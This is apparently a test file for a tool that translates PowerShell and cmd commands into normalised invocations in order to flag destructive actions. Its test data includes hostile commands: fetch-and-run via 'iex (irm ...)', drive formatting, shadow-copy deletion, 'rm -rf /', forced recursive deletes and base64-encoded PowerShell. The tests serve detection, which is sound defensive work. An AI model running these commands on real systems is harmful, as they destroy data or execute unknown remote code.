import assert from 'node:assert/strict';
import { test } from 'node:test';
import { initialState, interpretShell } from '../../../../src/core/shell/interpret.ts';
import type { ShellKind } from '../../../../src/core/types.ts';
import { portsOf, show, type World } from './reading.ts';
import { assertLinear } from '../../../support/growth.ts';

function read(kind: ShellKind, text: string, world: World = {}): readonly string[] {
  const { invocations, opaque } = interpretShell(text, kind, initialState('C:/work', {}), portsOf({ platform: 'win32', ...world }));
  return [
    ...invocations.map(({ argv, redirects, place }) =>
      [
        ...argv.map(show),
        ...redirects.map(({ mode, target }) => `${mode === 'append' ? '>>' : mode === 'read' ? '<' : '>'}${show(target)}`),
        ...(place.type === 'host' ? [`@${place.name}`] : []),
      ].join(' '),
    ),
    ...opaque.map(({ reason }) => `!${reason}`),
  ];
}

const powershell: readonly (readonly [string, string | readonly string[], World?])[] = [
  ['Remove-Item -Recurse -Force data', 'rm -r -f -- data'],
  ['Remove-Item data -Recurse', 'rm -r -- data'],
  ['remove-item -path a, b -r -fo', 'rm -r -f -- a b'],
  ['Remove-Item -LiteralPath "C:\\My Data" -Recurse:$true', 'rm -r -- "C:/My Data"'],
  ['rm -r -fo .\\build', 'rm -r -f -- ./build'],
  ['ri x; del y; rd z', ['rm -- x', 'rm -- y', 'rm -- z']],
  ['del *.log', 'rm -- «*».log'],
  ['Remove-Item x -Recurse -WhatIf', []],
  ['Remove-Item x -ErrorAction SilentlyContinue', 'rm -- x'],
  ['Microsoft.PowerShell.Management\\Remove-Item x', 'rm -- x'],
  ['Remove-Item $env:USERPROFILE\\x', 'rm -- /home/ada/x'],
  ['Remove-Item ~/x', 'rm -- ~/x'],
  ['Remove-Item "$HOME\\x"', 'rm -- /home/ada/x'],
  ['Remove-Item $dir\\x', 'rm -- ‹$dir›/x'],
  ['Remove-Item "$($dir)\\x"', 'rm -- ‹$dir›/x'],
  ["$dir = 'C:\\data'; Remove-Item $dir -Recurse", 'rm -r -- C:/data'],
  ['$d = "a"; $e = "$d\\b"; rm $e', 'rm -- a/b'],
  ["$l = 'a','b'; rm $l", 'rm -- a b'],
  ["$l = @('a', 'b'); foreach ($f in $l) { Remove-Item $f }", ['rm -- a', 'rm -- b']],
  ['foreach ($f in Get-ChildItem data) { Remove-Item $f.FullName -Recurse }', ['ls data', 'rm -r -- data/«*»']],
  ['Get-ChildItem data | Remove-Item -Recurse', ['ls data', 'rm -r -- data/«*»']],
  ['Get-ChildItem -Path . -Filter *.log -Recurse | ForEach-Object { Remove-Item $_.FullName }', ['ls .', 'rm -- ./«**»/«*».log']],
  ['gci x -r -fi *.o | % { ri $_ }', ['ls x', 'rm -- x/«**»/«*».o']],
  ['Get-ChildItem x | Where-Object { $_.Length -gt 1 } | Remove-Item', ['ls x', 'rm -- x/«*»']],
  ["'a','b' | Remove-Item", 'rm -- a b'],
  ['Remove-Item x\\* -Include *.tmp', 'rm -- x/«*».tmp'],
  ['Get-Foo | Remove-Item', 'rm -- ‹$_›'],
  ['if (Test-Path x) { Remove-Item x -Recurse }', 'rm -r -- x'],
  ['if (a) { rm x } else { rm y }\nrm z', ['a', 'rm -- x', 'rm -- y', 'rm -- z']],
  ['try { rm x } catch { rm y } finally { rm z }', ['rm -- x', 'rm -- y', 'rm -- z']],
  ['while ($true) { rm x }', 'rm -- x'],
  ['function Clean($p) { Remove-Item x }\nClean a', 'rm -- x'],
  ['& { rm x }', 'rm -- x'],
  ["& 'C:\\Program Files\\Git\\bin\\git.exe' push --force", '"C:\\\\Program Files\\\\Git\\\\bin\\\\git.exe" push --force'],
  ['git reset --hard; docker rm x', ['git reset --hard', 'docker rm x']],
  ['git status && rm x || rm y', ['git status', 'rm -- x', 'rm -- y']],
  ['cd sub; Remove-Item x', ['cd sub', 'rm -- x']],
  ['Set-Location C:\\; rm x', ['cd C:/', 'rm -- x']],
  ['Clear-Content a.txt', ': >a.txt'],
  ["'x' | Set-Content a.txt", 'out-file >a.txt'],
  ["Set-Content -Path a.txt -Value 'x'", 'out-file >a.txt'],
  ['"x" | Out-File a.txt -Append', 'out-file >>a.txt'],
  ['echo x > a.txt', 'out-file >a.txt'],
  ['npm test 2>&1 | Out-Null', 'npm test'],
  ['npm test > $null', 'npm test'],
  ['Move-Item a b -Force', 'mv a b'],
  ['Copy-Item a b -Recurse -Force', 'cp -r a b'],
  ["[System.IO.Directory]::Delete('data', $true)", 'rm -r data'],
  ["[IO.File]::Delete('a')", 'rm -r a'],
  ['(Get-Item a).Delete()', 'rm -r a'],
  ["Invoke-Expression 'Remove-Item x'", 'rm -- x'],
  ["'rm x' | iex", 'rm -- x'],
  ['iex (irm https://x.example/i.ps1)', ['curl https://x.example/i.ps1', '!Invoke-Expression runs text that cannot be known']],
  [
    "Invoke-RestMethod -Method Delete -Uri https://api.example/v1/x -Headers @{ A = 'b' }",
    'curl -X DELETE -H "‹({ A = \'b\' })›" https://api.example/v1/x'.replace('"‹({ A = \'b\' })›"', "‹( A = 'b' )›"),
  ],
  ['irm https://x.example -Method Post -Body \'{"query":1}\'', 'curl -X POST --data-raw {"query":1} https://x.example'],
  ["Start-Process git -ArgumentList 'push','--force'", 'git push --force'],
  ['Start-Process cmd "/c rd /s /q x"', 'rm -r -f -- x'],
  ['Invoke-Command -ComputerName srv -ScriptBlock { Remove-Item x }', 'rm -- x @srv'],
  ['bash -c "rm -rf x"', 'rm -rf x'],
  ['wsl rm -rf /mnt/c/x', 'rm -rf /mnt/c/x'],
  ['cmd /c "del /q x"', 'rm -f -- x'],
  ['docker exec db rm x', ['docker exec db rm x', 'rm x']],
  ['npx prisma migrate reset', 'prisma migrate reset'],
  ['# rm x', []],
  ['<# rm x #> ls', 'ls'],
  ['git commit -m "rm -rf /"', 'git commit -m "rm -rf /"'],
  ["git commit -m @'\nrm -rf /\n'@", 'git commit -m "rm -rf /"'],
  ['Write-Host "rm -rf /"', []],
  ['Select-String -Pattern "Remove-Item" x', ['grep -Ei -e Remove-Item x']],
  ['npm run build -- --flag=value ./x', 'npm run build -- --flag=value ./x'],
  ['git log --oneline -5', 'git log --oneline -5'],
  ['git checkout -- .', 'git checkout -- .'],
  ['$env:FOO = "bar"; npm test', 'npm test'],
  ['Remove-Item Env:FOO', []],
  ['Remove-Item HKCU:\\Software\\X -Recurse', 'reg delete HKCU:/Software/X /f'],
  ['Format-Volume -DriveLetter D', '!what Format-Volume destroys cannot be told'],
  ['Get-Process | Format-Table', []],
  ['Remove-Item `\n  x', 'rm -- x'],
  ["Remove-Item 'x", ['rm -- x', '!not valid PowerShell text: a quote or bracket is not closed']],
  ['.\\clean.ps1', 'rm -- x', { files: { 'C:/work/clean.ps1': 'Remove-Item x' } }],
  ['. .\\missing.ps1', '.\\missing.ps1'],
];

for (const [text, expected, world] of powershell) {
  test(`PowerShell: ${text}`, () =>
    assert.deepEqual(read('powershell', text, world), typeof expected === 'string' ? [expected] : expected));
}

const cmd: readonly (readonly [string, string | readonly string[], World?])[] = [
  ['del x', 'rm -- x'],
  ['del /f /s /q *.log', 'rm -r -f -- «*».log'],
  ['DEL /Q "a b"', 'rm -f -- "a b"'],
  ['rd /s /q data', 'rm -r -f -- data'],
  ['rd/s/q data', 'rm -r -f -- data'],
  ['rmdir data', 'rmdir data'],
  ['@echo off & rd /s /q C:\\data', ['echo off', 'rm -r -f -- C:/data']],
  ['del /?', []],
  ['cd sub && del x', ['cd sub', 'rm -- x']],
  ['cd /d C:\\ && del x', ['cd C:/', 'rm -- x']],
  ['if exist x (rd /s /q x)', 'rm -r -f -- x'],
  ['if not exist x del y', 'rm -- y'],
  ['if "%A%"=="b" (del x) else (del y)', ['rm -- x', 'rm -- y']],
  ['for %i in (a b) do del %i', ['rm -- a', 'rm -- b']],
  ['for /d %%d in (x\\*) do rd /s /q "%%d"', 'rm -r -f -- x/«*»'],
  ['for /f "tokens=*" %f in (\'dir /b\') do del %f', ['dir /b', 'rm -- ‹%f›']],
  ['del %USERPROFILE%\\x', 'rm -- /home/ada/x'],
  ['del %DIR%\\x', 'rm -- ‹%DIR%›/x'],
  ['set D=C:\\data& rd /s /q %D%', 'rm -r -f -- C:/data'],
  ['d^el x', 'rm -- x'],
  ['echo x > a.txt', 'echo x >a.txt'],
  ['type nul > a.txt', 'cat nul >a.txt'],
  ['dir 2>nul', 'dir'],
  ['copy /y a b', 'cp a b'],
  ['move a b', 'mv a b'],
  ['robocopy a b /MIR', 'rsync -a --delete a/ b'],
  ['git push --force', 'git push --force'],
  ['C:\\Git\\git.exe push', 'C:/Git/git.exe push'],
  ['powershell -Command "Remove-Item x"', 'rm -- x'],
  ['cmd /c del x', 'rm -- x'],
  ['start "" cmd /c del x', 'rm -- x'],
  ['echo del x', 'echo del x'],
  ['rem del x', []],
  ['echo y | del x', ['echo y', 'rm -- x']],
  ['format d: /q', '!it formats a drive'],
  ['vssadmin delete shadows /all', '!it deletes shadow copies'],
  ['vssadmin list shadows', []],
  ['npm run build', 'npm run build'],
];

for (const [text, expected, world] of cmd) {
  test(`cmd: ${text}`, () => assert.deepEqual(read('cmd', text, world), typeof expected === 'string' ? [expected] : expected));
}

test('batch files are read', () => {
  assert.deepEqual(read('cmd', 'call build.bat', { files: { 'C:/work/build.bat': '@echo off\r\ndel x\r\n' } }), ['echo off', 'rm -- x']);
});

test('encoded PowerShell is read', () => {
  const encoded = Buffer.from('Remove-Item x', 'utf16le').toString('base64');
  assert.deepEqual(read('posix', `powershell -NoProfile -EncodedCommand ${encoded}`), ['rm -- x']);
  assert.deepEqual(read('posix', 'powershell -enc "$X"'), ['!powershell runs encoded text that cannot be read']);
});

test('PowerShell and cmd from a POSIX shell', () => {
  assert.deepEqual(read('posix', 'pwsh -c "Get-ChildItem data | Remove-Item"'), ['ls data', 'rm -- data/«*»']);
  assert.deepEqual(read('posix', 'cmd //c "rd /s /q data"'), ['rm -r -f -- data']);
  assert.deepEqual(read('posix', 'cmd /c "dir data"'), ['dir data']);
  assert.deepEqual(read('posix', "powershell -Command 'rm $env:TEMP/x'"), ['rm -- ‹$env:TEMP›/x']);
});

test('never throws, and reads hostile text in linear time', () => {
  for (const kind of ['powershell', 'cmd'] as const) {
    for (const text of [
      '(',
      '{',
      '"',
      "'",
      '$(',
      '@"',
      '%',
      '^',
      'for',
      'if',
      '&',
      '|',
      '('.repeat(50_000),
      '{'.repeat(50_000),
      '$('.repeat(30_000),
      '"$('.repeat(20_000),
      'rm x;'.repeat(13_000),
      'if exist x ('.repeat(5_000),
      '"'.repeat(60_000),
      '%a%'.repeat(20_000),
      '`'.repeat(60_000),
      'for %i in (a b) do '.repeat(3_000),
    ]) {
      read(kind, text);
      assertLinear(
        `${kind} ${text.slice(0, 20)}`,
        (share) => text.slice(0, text.length * share),
        (part) => read(kind, part),
      );
    }
  }
});
